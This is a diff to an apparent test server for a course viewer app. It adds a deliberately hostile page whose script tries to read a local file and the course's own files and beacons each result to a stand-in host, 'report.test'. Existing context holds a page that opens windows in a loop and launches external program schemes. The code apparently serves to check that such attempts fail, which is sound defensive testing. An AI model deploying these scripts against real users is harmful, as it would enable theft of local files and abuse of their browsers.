@@ -6,8 +6,11 @@ network share, and appends each requested address,
 exactly as received, to a log file. The page is hostile too: its script opens
 windows in a loop, follows links to a local file, a network share and a
 program's own scheme meant for new windows, sends the page itself to another
-program's scheme and starts a download, all without a click. Writes the port
-it listens on to a file once it is ready.
+program's scheme and starts a download, all without a click. A request for
+"/remote-hostile?secret=PATH" gets a page that tries to read that local file
+and the course's own files, and reports each try as a request for
+"http://report.test/remote-NAME=RESULT". Writes the port it listens on to a
+file once it is ready.
 
 Usage: search-server.py LOG_FILE PORT_FILE
 """
@@ -29,11 +32,38 @@ follow('/more.zip?by-script', {download: 'more.zip'});
 setTimeout(() => { location.href = 'steam://run/1'; }, 300);
 """
 
+# What a web page framed in a course page may try: every try must fail.
+REMOTE_SCRIPT = """
+const secret = new URLSearchParams(location.search).get('secret');
+const report = (name, result) => { new Image().src = 'http://report.test/remote-' + name + '=' + result; };
+function readable(name, address) {
+  const request = new XMLHttpRequest();
+  request.onload = () => report(name, request.responseText ? 'read' : 'empty');
+  request.onerror = () => report(name, 'blocked');
+  try { request.open('GET', address); request.send(); } catch (e) { report(name, 'blocked'); }
+}
+function shown(name, address) {
+  const picture = new Image();
+  picture.onload = () => report(name, 'shown');
+  picture.onerror = () => report(name, 'blocked');
+  picture.src = address;
+}
+readable('xhr-file', 'file://' + secret);
+readable('xhr-course', 'tovrelle://course/Sponsors/sp.dat');
+fetch('file://' + secret).then(() => report('fetch-file', 'read'), () => report('fetch-file', 'blocked'));
+shown('img-file', 'file://' + secret.replace(/txt$/, 'png'));
+shown('img-course', 'tovrelle://course/Media/main_bk.jpg');
+"""
+
 
 class Handler(http.server.BaseHTTPRequestHandler):
     def do_GET(self):
         with open(sys.argv[1], "a", encoding="latin-1") as log:
             log.write(self.path + "\n")
+        if "/remote-hostile" in self.path:
+            self.answer(("<html><body><script>%s</script></body></html>" % REMOTE_SCRIPT).encode(),
+                        "text/html; charset=utf-8")
+            return
         if self.path.endswith(".zip"):
             self.answer(b"PK", "application/zip", "attachment; filename=more.zip")
             return
